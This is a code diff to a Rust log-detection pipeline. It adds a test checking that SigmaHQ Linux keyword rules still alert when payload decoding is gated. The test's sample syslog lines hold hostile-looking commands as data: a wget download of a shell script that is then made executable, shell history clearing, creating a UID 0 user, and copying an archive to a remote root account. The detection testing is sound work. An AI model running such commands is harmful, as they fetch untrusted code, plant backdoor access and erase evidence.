@@ -291,9 +291,11 @@ impl Pipeline {
     ) -> Option<i64> {
         if self.decode_all_payloads
             || self.templates_mode == TemplatesMode::On
-            || self
-                .rules
-                .may_match_header(&shardwatch_net::header_parts(header))
+            || self.rules.may_match_header(
+                &shardwatch_net::header_parts(header),
+                header.message,
+                &mut self.scratch,
+            )
         {
             return None;
         }
@@ -753,6 +755,107 @@ correlation:
                 b.fields.keys()
             );
         }
+    }
+
+    /// Every rule file under `dir`, recursively, in path order.
+    fn rule_files(dir: &std::path::Path, out: &mut Vec<shardwatch_rules::RuleSource>) {
+        let mut entries: Vec<_> = std::fs::read_dir(dir)
+            .unwrap()
+            .map(|entry| entry.unwrap().path())
+            .collect();
+        entries.sort();
+        for path in entries {
+            if path.is_dir() {
+                rule_files(&path, out);
+            } else if path.extension().is_some_and(|ext| ext == "yml") {
+                out.push(shardwatch_rules::RuleSource {
+                    origin: path.display().to_string(),
+                    text: std::fs::read_to_string(&path).unwrap(),
+                });
+            }
+        }
+    }
+
+    /// SigmaHQ's Linux built-in rules: the keyword rules whose log source
+    /// is all of `product: linux` are gated by their keywords in the
+    /// message, the rest by program name, so lines with neither skip
+    /// their payload's decode; lines with a keyword (in any case, in
+    /// plain text or a JSON payload) are decoded and alert exactly as
+    /// when every payload is decoded.
+    #[test]
+    fn sigmahq_linux_keyword_rules_gate_lines_by_their_message() {
+        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("../../shared/data/sigma/rules/linux/builtin");
+        let mut sources = Vec::new();
+        rule_files(&dir, &mut sources);
+        let (rules, errors) = RuleSet::compile_lenient(&sources);
+        assert!(errors.is_empty(), "{errors:?}");
+        assert!(rules.detection_count() >= 20, "{}", rules.detection_count());
+        assert!(
+            rules.header_gate_blocker().is_none(),
+            "{:?}",
+            rules.header_gate_blocker()
+        );
+        let rules = Arc::new(rules);
+        let pipeline = |decode_all_payloads| {
+            Pipeline::new(
+                rules.clone(),
+                Arc::new(ShardMap::new(1, 64, 1)),
+                PipelineOptions {
+                    decode_all_payloads,
+                    ..PipelineOptions::default()
+                },
+            )
+        };
+        let (mut gated, mut full) = (pipeline(false), pipeline(true));
+        let mut corpus = lines();
+        let keyword_lines = [
+            "<38>Nov 30 00:02:01 web-1 bash[77]: user ran RM /var/log/syslog",
+            "<86>Nov 30 00:02:02 web-1 useradd[1337]: new user: name=x, UID=0, GID=0, home=/root, shell=/bin/bash",
+            "<13>Nov 30 00:02:03 web-1 kernel: bpf_probe_write_user called by pid 4",
+            "<13>Nov 30 00:02:04 web-1 bash: History -C",
+            "<13>Nov 30 00:02:05 web-1 bash: scp a.tar root@10.0.0.2:/tmp",
+            "<14>Nov 30 00:02:06 web-1 auditor: {\"cmd\":\"history -c\",\"uid\":0}",
+            "<14>1 2026-11-30T00:02:07Z web-1 app 1 - - wget http://x/shell.sh -O /tmp/x; chmod +x /tmp/x",
+        ];
+        for i in 0..40u32 {
+            corpus.push(format!(
+                "<86>Nov 30 00:03:{:02} web-1 CRON[{i}]: pam_unix(cron:session): session opened for user root",
+                i % 60
+            ));
+            corpus.push(format!(
+                "<14>Nov 30 00:03:{:02} web nginx: {{\"status\":200,\"path\":\"/h{i}\"}}",
+                i % 60
+            ));
+            corpus.push(keyword_lines[i as usize % keyword_lines.len()].to_string());
+        }
+        let (mut seen_gated, mut seen_full) = (Seen::default(), Seen::default());
+        for line in &corpus {
+            let before = seen_gated.detections.len();
+            let a = gated.process(line.as_bytes(), 1_796_000_000_000_000_000, &mut seen_gated);
+            let b = full.process(line.as_bytes(), 1_796_000_000_000_000_000, &mut seen_full);
+            assert_eq!(a, b, "{line}");
+            if keyword_lines.contains(&line.as_str()) {
+                assert!(seen_gated.detections.len() > before, "no alert for {line}");
+            }
+        }
+        assert_eq!(seen_gated.detections, seen_full.detections);
+        assert_eq!(seen_gated.other, seen_full.other);
+        assert_eq!(seen_full.without_payload, 0);
+        assert!(
+            seen_gated.without_payload > 150,
+            "{} of {} lines",
+            seen_gated.without_payload,
+            corpus.len()
+        );
+        // The keyword lines fire six different rules (both history lines
+        // the same one).
+        let fired: std::collections::BTreeSet<&str> = seen_gated
+            .detections
+            .iter()
+            .map(|(rule, _)| rules.detection(*rule as usize).title.as_str())
+            .collect();
+        assert_eq!(fired.len(), 6, "{fired:?}");
     }
 
     #[test]
